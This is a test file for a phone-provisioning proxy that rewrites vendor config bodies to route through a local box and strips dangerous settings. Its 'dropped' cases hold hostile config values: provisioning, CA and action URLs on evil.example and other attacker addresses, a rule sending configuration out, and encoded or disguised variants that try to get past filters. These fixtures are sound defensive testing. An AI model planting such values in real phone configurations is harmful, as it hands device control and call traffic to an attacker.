import { expect, test } from 'vitest';
import type { LinkPolicy } from '../../../appliance/provisioning/links.ts';
import { vendorOverlays } from '../../../appliance/provisioning/overlay.ts';
import { rewriteBody, type RewriteRules } from '../../../appliance/provisioning/rewrite.ts';
import { readVendorFiles } from '../../../appliance/provisioning/vendor-files.ts';
import type { Vendor } from '../../../appliance/phones/vendors.ts';
import { noClock, overlayValues } from '../../support/template-values.ts';

/** No time server: what is laid over is then the same at every site. */
const values = { ...overlayValues, ntp_server: '', syslog_server: '', ...noClock };

const dm = 'usea.dm.sdg.teams.microsoft.com';
const links: LinkPolicy = {
  hosts: {
    region: 'emea.ipp.sdg.teams.microsoft.com',
    first: new Set(['emea.ipp.sdg.teams.microsoft.com', 'noam.ipp.sdg.teams.microsoft.com']),
    later: new Set([dm]),
  },
  box: 'https://10.0.0.1',
  from: { use: 'later', host: dm },
};
const vendors = readVendorFiles();
/** Of UTF-8, a character a byte. */
const bom = '\u00EF\u00BB\u00BF';

/** Rules of a vendor as they are shipped; overlays only where a test wants them. */
function rules(vendor: Vendor, rest: Partial<RewriteRules> = {}): RewriteRules {
  const found = vendors.get(vendor);
  if (found === undefined) throw new Error(vendor);
  const { format, isPage, isProvisioningUrl, danger } = found;
  return { format, isPage, isProvisioningUrl, danger, links, overlays: [], ...rest };
}

function overlays(vendor: Vendor): Pick<RewriteRules, 'overlays'> {
  const found = vendors.get(vendor);
  return { overlays: found ? vendorOverlays(found, values, { isFull: true }) : [] };
}

/** Vendor, body from above, body for the phone. `ÿ` stands for a byte that is no UTF-8. */
const changed: readonly [Vendor, string, string][] = [
  [
    'yealink',
    `#!version:1.0.0.1\r\n# note = https://${dm}/x\r\n  static.auto_provision.server.url =   https://${dm}/device/ob/ab/lang_en/  \r\naccount.1.label=Müller ÿ = 1\r\n\r\nlang.gui = Deutsch`,
    `#!version:1.0.0.1\r\n# note = https://${dm}/x\r\n  static.auto_provision.server.url =   https://10.0.0.1/${dm}/device/ob/ab/lang_en/  \r\naccount.1.label=Müller ÿ = 1\r\n\r\nlang.gui = Deutsch`,
  ],
  [
    'yealink',
    `#!version:1.0.0.1\ninclude:config "https://${dm}/a.cfg"\noverwrite_mode = 1\n`,
    `#!version:1.0.0.1\ninclude:config "https://10.0.0.1/${dm}/a.cfg"\noverwrite_mode = 1\n`,
  ],
  [
    'poly',
    `<?xml version="1.0"?>\n<!-- device.prov.serverName="https://${dm}/" -->\n<a  device.prov.serverName = '${dm}/device/ob/ab/?x=1&amp;y=2'\n b.c="ÿ &#10;"/>`,
    `<?xml version="1.0"?>\n<!-- device.prov.serverName="https://${dm}/" -->\n<a  device.prov.serverName = '10.0.0.1/${dm}/device/ob/ab/?x=1&amp;y=2'\n b.c="ÿ &#10;"/>`,
  ],
  [
    'poly',
    `<a softkey.1.action="https://${dm}/device/softkey.php/mmiiaacc/ab/lang_en/" b="$FGo$https://${dm}/device/logout.php/mmiiaacc/ab/$" c="https://${dm}/device/other/ab/" d="https://elsewhere.example/device/softkey.php/ab/" e="http://${dm}/device/softkey.php/ab/"/>`,
    `<a softkey.1.action="https://10.0.0.1/${dm}/device/softkey.php/mmiiaacc/ab/lang_en/" b="$FGo$https://10.0.0.1/${dm}/device/logout.php/mmiiaacc/ab/$" c="https://${dm}/device/other/ab/" d="https://elsewhere.example/device/softkey.php/ab/" e="http://${dm}/device/softkey.php/ab/"/>`,
  ],
  [
    'poly',
    `<APPLICATION CONFIG_FILES="https://${dm}/p/[PHONE_MAC_ADDRESS].cfg, local.cfg"/>`,
    `<APPLICATION CONFIG_FILES="https://10.0.0.1/${dm}/p/[PHONE_MAC_ADDRESS].cfg, local.cfg"/>`,
  ],
  [
    'cisco',
    `<flat-profile>\n<Profile_Rule ua="na"> [--uid $GPP_A --pwd x]https://${dm}/device/$PSN.xml </Profile_Rule>\n<Profile_Rule_B/>\n<Dial_Plan_1_>(*xx|[3469]11)</Dial_Plan_1_></flat-profile>`,
    `<flat-profile>\n<Profile_Rule ua="na"> [--uid $GPP_A --pwd x]https://10.0.0.1/${dm}/device/$PSN.xml </Profile_Rule>\n<Profile_Rule_B/>\n<Dial_Plan_1_>(*xx|[3469]11)</Dial_Plan_1_></flat-profile>`,
  ],
  [
    'cisco',
    `<flat-profile><Profile_Rule>/device/next/$MA.xml</Profile_Rule></flat-profile>`,
    `<flat-profile><Profile_Rule>https://10.0.0.1/${dm}/device/next/$MA.xml</Profile_Rule></flat-profile>`,
  ],
  [
    'snom',
    `<settings><phone-settings><setting_server perm="R">https://${dm}/device/{mac}</setting_server></phone-settings><setting-files><file url="https://${dm}/f.xml"/></setting-files></settings>`,
    `<settings><phone-settings><setting_server perm="R">https://10.0.0.1/${dm}/device/{mac}</setting_server></phone-settings><setting-files><file url="https://10.0.0.1/${dm}/f.xml"/></setting-files></settings>`,
  ],
  [
    'audiocodes',
    `; provisioning\r\nprovisioning/configuration/url=https://${dm}/device/ob/\r\nvoip/line/0/id=1\r\n`,
    `; provisioning\r\nprovisioning/configuration/url=https://10.0.0.1/${dm}/device/ob/\r\nvoip/line/0/id=1\r\n`,
  ],
  [
    'ale',
    `<settings>\n <setting id="DeviceProvisionServerUrl" value="https://${dm}/device/ob/"/>\n <setting id="Account1Password" value="a&lt;b"/>\n</settings>`,
    `<settings>\n <setting id="DeviceProvisionServerUrl" value="https://10.0.0.1/${dm}/device/ob/"/>\n <setting id="Account1Password" value="a&lt;b"/>\n</settings>`,
  ],
  [
    'yealink',
    `static.auto_provision.server.url = http://emea.ipp.sdg.teams.microsoft.com/lang_de/`,
    'static.auto_provision.server.url = https://10.0.0.1/lang_de/',
  ],
  [
    'yealink',
    `static.auto_provision.server.url = http://noam.ipp.sdg.teams.microsoft.com/`,
    'static.auto_provision.server.url = https://10.0.0.1/noam.ipp.sdg.teams.microsoft.com/',
  ],
];

test.each(changed)(
  '%s: the provisioning URL leads to the box, every other byte stays',
  (vendor, body, expected) => {
    const result = rewriteBody(body, rules(vendor));
    expect(result.body).toBe(expected);
    expect(result.dropped).toEqual([]);
  },
);

test.each(changed)('%s: a phone that goes on by itself gets the body as it came', (vendor, body) => {
  expect(rewriteBody(body, rules(vendor, { links: { ...links, box: undefined } })).body).toBe(body);
});

test('what stands beside the text of an element stays there when its value is changed', () => {
  const body = `<f><Profile_Rule><!-- a --> https://${dm}/x <?b?></Profile_Rule></f>`;
  const expected = `<f><Profile_Rule><!-- a --> https://10.0.0.1/${dm}/x <?b?></Profile_Rule></f>`;
  expect(rewriteBody(body, rules('cisco')).body).toBe(expected);
});

const dropped: readonly [Vendor, string, string, string][] = [
  [
    'yealink',
    'lang.gui = x\nstatic.security.user_password = admin:1234\nlang.wui = y\n',
    'lang.gui = x\nlang.wui = y\n',
    'admin password',
  ],
  ['yealink', 'STATIC.Security.User_Password = admin:1234\n', '', 'admin password'],
  ['yealink', 'a = 1\rstatic.security.user_password = admin:1234\rb = 2', 'a = 1\rb = 2', 'admin password'],
  ['yealink', 'static.trusted_certificates.url = http://203.0.113.9/ca.pem\n', '', 'certificate authority'],
  ['yealink', 'features.action_uri.limit_ip = any\n', '', 'remote control'],
  ['yealink', 'action_url.call_established = http://203.0.113.9/\n', '', 'script'],
  [
    'yealink',
    'static.auto_provision.server.url = https://evil.example/\n',
    '',
    'provisioning host "evil.example" is not allowed',
  ],
  [
    'yealink',
    `static.auto_provision.server.url = https://${dm}.evil.example/\n`,
    '',
    `provisioning host "${dm}.evil.example" is not allowed`,
  ],
  [
    'yealink',
    `static.auto_provision.server.url = https://${dm}@evil.example/\n`,
    '',
    'provisioning URL with a user in it',
  ],
  [
    'yealink',
    `static.auto_provision.server.url = https://${dm}:8443/\n`,
    '',
    'provisioning URL on port 8443',
  ],
  ['yealink', 'static.auto_provision.server.url = tftp://10.9.9.9/\n', '', 'provisioning by tftp'],
  ['poly', '<a x="1" device.auth.localAdminPassword="456" y="2"/>', '<a x="1" y="2"/>', 'admin password'],
  ['poly', '<a device.sec.TLS.customCaCert1="-----BEGIN"/>', '<a/>', 'certificate authority'],
  [
    'poly',
    '<a device.prov.serverName="evil.example/x"/>',
    '<a/>',
    'provisioning host "evil.example" is not allowed',
  ],
  [
    'poly',
    `<a CONFIG_FILES="https://${dm}/a.cfg,http://evil.example/b.cfg"/>`,
    '<a/>',
    'provisioning host "evil.example" is not allowed',
  ],
  ['cisco', '<f><Admin_Passwd ua="na">x</Admin_Passwd><B>1</B></f>', '<f><B>1</B></f>', 'admin password'],
  [
    'cisco',
    '<f><Custom_CA_Rule>http://evil.example/</Custom_CA_Rule></f>',
    '<f></f>',
    'certificate authority',
  ],
  [
    'cisco',
    '<f><Report_Rule>[--key]http://evil.example/</Report_Rule></f>',
    '<f></f>',
    'configuration sent elsewhere',
  ],
  [
    'snom',
    '<settings><certificate type="base64">QUJD</certificate></settings>',
    '<settings></settings>',
    'certificate authority',
  ],
  [
    'snom',
    '<s><action_incoming_url perm="">http://evil.example/</action_incoming_url></s>',
    '<s></s>',
    'script',
  ],
  ['audiocodes', 'ems_server/provisioning/url=https://evil.example/\nx=1\n', 'x=1\n', 'remote control'],
  [
    'ale',
    '<settings><setting id="DeviceWebAdminPassword" value="x"/></settings>',
    '<settings></settings>',
    'admin password',
  ],
  // What a phone would still read as the setting, written otherwise.
  [
    'yealink',
    `${bom}include:config "http://evil.example/x"\n`,
    '',
    'provisioning host "evil.example" is not allowed',
  ],
  [
    'yealink',
    'Include:config"http://evil.example/x"\n',
    '',
    'provisioning host "evil.example" is not allowed',
  ],
  [
    'cisco',
    '<f><Profile_Rule idx="1">http://evil.example/</Profile_Rule></f>',
    '<f></f>',
    'provisioning host "evil.example" is not allowed',
  ],
  [
    'cisco',
    '<f><Profile_Rule>http&#00000000058;//evil.example/</Profile_Rule></f>',
    '<f></f>',
    'provisioning host "evil.example" is not allowed',
  ],
  ['cisco', '<f><Admin_Passwd idx="1]2">x</Admin_Passwd></f>', '<f></f>', 'admin password'],
  ['snom', '<s><http_pass idx="1">x</http_pass></s>', '<s></s>', 'admin password'],
  [
    'ale',
    '<settings><setting id="DeviceWebAdmin&#0000000080;assword" value="x"/></settings>',
    '<settings></settings>',
    'admin password',
  ],
];

test.each(dropped)('%s: %j does not reach the phone', (...row) => {
  const [vendor, body, expected, reason] = row;
  const result = rewriteBody(body, rules(vendor));
  expect(result.body).toBe(expected);
  expect(new Set(result.dropped.map((one) => one.reason))).toEqual(new Set([reason]));
});

const laid: readonly [Vendor, string, string][] = [
  [
    'yealink',
    'account.1.label = x\r\naccount.1.outbound_proxy.1.address = cloud.example\r\n',
    'account.1.label = x\r\naccount.1.outbound_proxy.1.address = 10.0.0.1\r\nstatic.network.lldp.enable = 1\r\nstatic.auto_provision.repeat.enable = 1\r\nstatic.auto_provision.repeat.minutes = 60\r\nstatic.trusted_certificates.url = http://10.0.0.1/gatehouse-ca.pem\r\nstatic.security.trust_certificates = 1\r\nstatic.security.ca_cert = 2\r\naccount.1.outbound_proxy_enable = 1\r\naccount.1.outbound_proxy.1.port = 5061\r\ndialplan.emergency.enable = 1\r\ndialplan.emergency.server.3.address = 10.0.0.1\r\ndialplan.emergency.server.3.port = 5061\r\ndialplan.emergency.server.3.transport_type = 2\r\ndialplan.emergency.1.value = 112\r\ndialplan.emergency.2.value = 110\r\n',
  ],
  [
    'cisco',
    '<flat-profile>\n  <Use_Outbound_Proxy_1_ ua="rw">No</Use_Outbound_Proxy_1_>\n</flat-profile>\n',
    '<flat-profile>\n  <Use_Outbound_Proxy_1_ ua="rw">Yes</Use_Outbound_Proxy_1_>\n  <Enable_LLDP-MED ua="na">Yes</Enable_LLDP-MED>\n  <Resync_Periodic ua="na">3600</Resync_Periodic>\n  <Custom_CA_Rule ua="na">http://10.0.0.1/gatehouse-ca.pem</Custom_CA_Rule>\n  <Custom_CA_URL>http://10.0.0.1/gatehouse-ca.pem</Custom_CA_URL>\n  <Outbound_Proxy_1_ ua="na">10.0.0.1:5061</Outbound_Proxy_1_>\n  \n  <SIP_Transport_1_ ua="na">TLS</SIP_Transport_1_>\n</flat-profile>\n',
  ],
  [
    'poly',
    '<PHONE_CONFIG><a reg.1.outboundProxy.port="5060"/></PHONE_CONFIG>',
    '<PHONE_CONFIG><a reg.1.outboundProxy.port="5061"/>\n  <gatehouse-local\n    device.net.lldpEnabled.set="1"\n    device.net.lldpEnabled="1"\n    prov.polling.enabled="1"\n    prov.polling.mode="rel"\n    prov.polling.period="3600"/>\n\n  <gatehouse-authority\n    device.set="1"\n    device.sec.TLS.customCaCert1.set="1"\n    device.sec.TLS.customCaCert1="-----BEGIN CERTIFICATE-----&#10;QUJD&#10;-----END CERTIFICATE-----&#10;"/>\n\n  <gatehouse-outbound-proxy\n    reg.1.outboundProxy.address="10.0.0.1"\n    reg.1.outboundProxy.transport="TLS"/>\n</PHONE_CONFIG>',
  ],
  [
    'snom',
    '<settings>\n<phone-settings>\n<user_outbound idx="2" perm="">other</user_outbound>\n</phone-settings>\n</settings>\n',
    '<settings>\n<phone-settings>\n<user_outbound idx="2" perm="">other</user_outbound>\n    <user_outbound idx="1" perm="R">10.0.0.1:5061;transport=tls</user_outbound>\n</phone-settings>\n  <certificates>\n    <certificate type="base64">QUJD</certificate>\n  </certificates>\n</settings>\n',
  ],
];

test.each(laid)(
  '%s: our settings take the place of those from above, the missing ones are appended',
  (vendor, body, expected) => {
    expect(rewriteBody(body, rules(vendor, overlays(vendor))).body).toBe(expected);
  },
);

test('an authority from above is dropped and ours stands in its place', () => {
  const body = 'static.trusted_certificates.url = http://evil.example/ca.pem\n';
  const result = rewriteBody(body, rules('yealink', overlays('yealink')));
  expect(result.body.match(/trusted_certificates\.url.*/g)).toEqual([
    'trusted_certificates.url = http://10.0.0.1/gatehouse-ca.pem',
  ]);
  expect(result.dropped).toHaveLength(1);
});

test("Poly's master file takes no settings and stays as it is", () => {
  const body = '<APPLICATION CONFIG_FILES="[PHONE_MAC_ADDRESS]-sdg.cfg"/>';
  expect(rewriteBody(body, rules('poly', overlays('poly'))).body).toBe(body);
});
